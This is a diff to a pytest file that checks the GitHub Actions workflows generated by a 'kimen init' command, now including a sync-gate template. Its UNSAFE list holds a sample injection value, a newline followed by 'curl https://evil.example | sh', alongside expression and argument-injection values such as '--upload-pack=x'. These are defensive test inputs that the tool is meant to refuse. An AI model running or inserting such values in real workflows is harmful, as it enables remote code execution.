@@ -1,4 +1,4 @@
-"""`kimen init ci-pr-safety|ci-deploy` (docs/ci.md): the workflows parse, call only kimen commands and
+"""`kimen init ci-pr-safety|ci-deploy|ci-sync-gate` (docs/ci.md): the workflows parse, call only kimen commands and
 flags that exist, install kimen with `--install-spec` verbatim, hand the identity only to the steps
 that run kimen, guard the deploy job with a GitHub environment and a concurrency group, write every
 flag value so that it reads back as given (or refuse it), pass actionlint and zizmor, and ship as
@@ -7,6 +7,7 @@ rendered copies in .github/workflows."""
 from __future__ import annotations
 
 import re
+import shlex
 import stat
 from pathlib import Path
 
@@ -18,7 +19,9 @@ from tests import workflow_lint
 
 REPO = Path(__file__).resolve().parents[2]
 SHIPPED = {"ci-pr-safety": REPO / ".github/workflows/kimen-pr-safety-template.yml",
-           "ci-deploy": REPO / ".github/workflows/kimen-deploy-template.yml"}
+           "ci-deploy": REPO / ".github/workflows/kimen-deploy-template.yml",
+           "ci-sync-gate": REPO / ".github/workflows/kimen-sync-gate-template.yml"}
+TEMPLATES = sorted(SHIPPED)
 SECRET_ENV = {"KIMEN_AGE_IDENTITY": "${{ secrets.KIMEN_AGE_IDENTITY }}",
               "KIMEN_TRUSTED_SIGNERS": "${{ vars.KIMEN_TRUSTED_SIGNERS }}"}
 SHA = "0123456789abcdef" * 2 + "01234567"
@@ -29,7 +32,14 @@ CUSTOM = {
     "ci-deploy": {"--profile": "prod-eu", "--deploy-command": './deploy.sh --ref "$GITHUB_SHA" # a: b | c',
                   "--bundle": "secrets/prod.age", "--environment": "prod: eu #1",
                   "--install-spec": f"git+https://git.example.com/org/kimen@{SHA}"},
+    "ci-sync-gate": {"--remote-name": "team.eu", "--remote-path": "ssh://git@git.example.com/org/team sync.git",
+                     "--remote-branch": "kimen/heads", "--remote-bundle-path": "sync/team.age",
+                     "--environment": "team: gate",
+                     "--install-spec": "--index-url https://pypi.example.com/simple kimen==0.1.0"},
 }
+GATE_ENV = {"remote add": {"KIMEN_REMOTE_ID": "${{ vars.KIMEN_REMOTE_ID }}"},
+            "sync": {"KIMEN_AGE_IDENTITY": "${{ secrets.KIMEN_AGE_IDENTITY }}",
+                     "KIMEN_MEMBERS_PIN": "${{ vars.KIMEN_MEMBERS_PIN }}"}}
 COMMAND_FLAG = {"ci-pr-safety": "--command", "ci-deploy": "--deploy-command"}
 UNSAFE = ["${{ github.event.head_commit.message }}", "./deploy.sh\ncurl https://evil.example | sh",
           "a\rb", "a\u2028b", "a\tb"]
@@ -61,12 +71,19 @@ def _strings(node, path=()):
         yield path, str(node)
 
 
+# commands a template calls that land on another branch first; test_pending_commands_are_still_missing
+# fails as soon as one exists, so this set is emptied when it does
+PENDING = {"sync preflight"}
+
+
 def _check_commands_exist(kimen, workflow: dict) -> None:
     """Each `kimen …` line names a real command, and each of its flags is in that command's --help."""
     lines = _kimen_lines(workflow)
     assert lines
     for line in lines:
-        words = line.split()[1:]
+        if any(line.startswith(f"kimen {pending} ") for pending in PENDING):
+            continue
+        words = shlex.split(line)[1:]
         if "--" in words:
             words = words[: words.index("--")]
         command = []
@@ -117,7 +134,7 @@ def _generate(kimen, template: str, *flags: str, out: str = "w.yml") -> tuple[st
     return text, check_workflow(kimen, text, spec)
 
 
-@pytest.mark.parametrize("template", ["ci-pr-safety", "ci-deploy"])
+@pytest.mark.parametrize("template", TEMPLATES)
 def test_generated_workflow(kimen, template):
     done = kimen.ok("init", template, "--json")
     out = Path(done.json()["out"])
@@ -133,6 +150,21 @@ def test_generated_workflow(kimen, template):
         assert list(triggers) == ["pull_request"]
         assert "secrets." not in text and "KIMEN_AGE_IDENTITY" not in text
         assert job["concurrency"]["cancel-in-progress"] is True
+    elif template == "ci-sync-gate":
+        assert triggers["push"]["branches"] == ["main"] and "workflow_dispatch" in triggers and triggers["schedule"]
+        assert job["environment"] == "kimen-sync-gate"  # the environment's protection rules guard the identity
+        checkout = job["steps"][0]
+        assert checkout["with"] == {"persist-credentials": False, "ref": "main"}  # the head's branch, this repo
+        kimen_steps = [s for s in job["steps"] if _runs_kimen(s)]
+        assert [s["run"] for s in kimen_steps] == [
+            'kimen remote add team --type git --path "$GITHUB_WORKSPACE" --branch main --bundle-path vault.age'
+            ' --remote-id "$KIMEN_REMOTE_ID"\n',
+            'kimen sync pin --remote team --check "$KIMEN_MEMBERS_PIN" --json\n',
+            'kimen sync preflight --remote team --strict --allow-missing-vault --pin "$KIMEN_MEMBERS_PIN"'
+            " --only head,pin,rotation --json\n"]
+        assert [s["env"] for s in kimen_steps] == [GATE_ENV["remote add"], GATE_ENV["sync"], GATE_ENV["sync"]]
+        assert not any("env" in s for s in job["steps"] if not _runs_kimen(s))
+        assert "KIMEN_PASSPHRASE" not in text and "--vault " not in text  # no vault, no passphrase
     else:
         assert triggers["push"]["branches"] == ["main"] and "workflow_dispatch" in triggers
         assert job["environment"] == "production"
@@ -145,12 +177,26 @@ def test_generated_workflow(kimen, template):
         assert not any("env" in s for s in job["steps"] if not _runs_kimen(s))
 
 
-@pytest.mark.parametrize("template", ["ci-pr-safety", "ci-deploy"])
+@pytest.mark.parametrize("template", TEMPLATES)
 def test_flag_values_read_back_exactly(kimen, template):
     values = CUSTOM[template]
     _text, workflow = _generate(kimen, template, *_flags(values))
     (job,) = workflow["jobs"].values()
     lines = _kimen_lines(workflow)
+    if template == "ci-sync-gate":
+        add = shlex.split(lines[0])
+        assert add[:4] == ["kimen", "remote", "add", values["--remote-name"]]
+        given = dict(zip(add[4::2], add[5::2], strict=True))
+        assert given == {"--type": "git", "--path": values["--remote-path"], "--branch": values["--remote-branch"],
+                         "--bundle-path": values["--remote-bundle-path"], "--remote-id": "$KIMEN_REMOTE_ID"}
+        assert all(f"--remote {values['--remote-name']} " in line for line in lines[1:])
+        assert workflow[True]["push"]["branches"] == [values["--remote-branch"]]
+        assert job["environment"] == values["--environment"]
+        assert "ref" not in job["steps"][0]["with"]  # another repository: check out this one as triggered
+        for branch in ("yes", "1.0"):  # a branch YAML would read as a boolean or a number stays a string
+            _text, workflow = _generate(kimen, template, "--remote-branch", branch, "--remote-path", "x")
+            assert workflow[True]["push"]["branches"] == [branch]
+        return
     assert f"--profile {values['--profile']} " in lines[-1]
     assert lines[-1].endswith(f" -- {values[COMMAND_FLAG[template]]}")
     if template == "ci-deploy":
@@ -170,7 +216,9 @@ def test_unsafe_flag_values_are_refused(kimen):
     """A `${{` expression (GitHub expands it before the shell runs: a commit message could run in the
     job holding the identity) or a line break in any value written into a template is refused."""
     flags = {"ci-pr-safety": ["--profile", "--command", "--install-spec"],
-             "ci-deploy": ["--profile", "--deploy-command", "--bundle", "--environment", "--install-spec"]}
+             "ci-deploy": ["--profile", "--deploy-command", "--bundle", "--environment", "--install-spec"],
+             "ci-sync-gate": ["--remote-name", "--remote-type", "--remote-path", "--remote-branch",
+                              "--remote-bundle-path", "--environment", "--install-spec"]}
     for template, names in flags.items():
         for flag in names:
             for value in UNSAFE:
@@ -202,6 +250,31 @@ def test_flags_and_refusals(kimen):
     assert not (kimen.cwd / "x.yml").exists()
 
 
+def test_pending_commands_are_still_missing(kimen):
+    for pending in PENDING:
+        assert kimen.run(*pending.split(), "--help").code == 2, f"kimen {pending} exists: empty PENDING"
+
+
+def test_sync_gate_refusals(kimen):
+    """The remote the gate writes follows `kimen remote add`'s rules, and only a git remote can be gated."""
+    for kind in ("fs", "s3", ""):
+        done = kimen.fail(33, "invalid_remote_type", "init", "ci-sync-gate", "--out", "x.yml", "--remote-type", kind)
+        assert "--remote-type git" in done.err_json()["hint"]
+    for flag, value, reason in (("--remote-name", "a b", "invalid_remote_name"),
+                                ("--remote-name", "", "empty_remote_name"),
+                                ("--remote-bundle-path", "../x.age", "invalid_bundle_path"),
+                                ("--remote-bundle-path", ".git/x.age", "invalid_bundle_path"),
+                                ("--remote-bundle-path", "/x.age", "invalid_bundle_path"),
+                                ("--remote-branch", "-x", "init_failed"), ("--remote-branch", "a..b", "init_failed"),
+                                ("--remote-path", "--upload-pack=x", "init_failed"),
+                                ("--remote-path", " x", "init_failed"), ("--environment", " e", "init_failed")):
+        kimen.fail(33, reason, "init", "ci-sync-gate", "--out", "x.yml", f"{flag}={value}")
+    assert not (kimen.cwd / "x.yml").exists()
+    # a path with shell characters is one quoted word: the shell reads it back as given
+    _text, workflow = _generate(kimen, "ci-sync-gate", "--remote-path", "/srv/team's $HOME; `x`.git")
+    assert shlex.split(_kimen_lines(workflow)[0])[7] == "/srv/team's $HOME; `x`.git"
+
+
 def _documented_install_specs() -> list[str]:
     """docs/ci.md's three install choices (a pinned git URL, a wheel, a private index), filled in."""
     text = (REPO / "docs" / "ci.md").read_text()
@@ -222,7 +295,7 @@ def test_the_install_choices_of_the_docs_are_written_verbatim(kimen):
 
 
 def _lint_inputs(kimen) -> list[Path]:
-    """Both templates with default flags and with CUSTOM's, and the deploy template with each
+    """Every template with default flags and with CUSTOM's, and the deploy template with each
     install choice of the docs."""
     variants = [(template, variant, flags) for template, values in CUSTOM.items()
                 for variant, flags in (("default", []), ("custom", _flags(values)))]
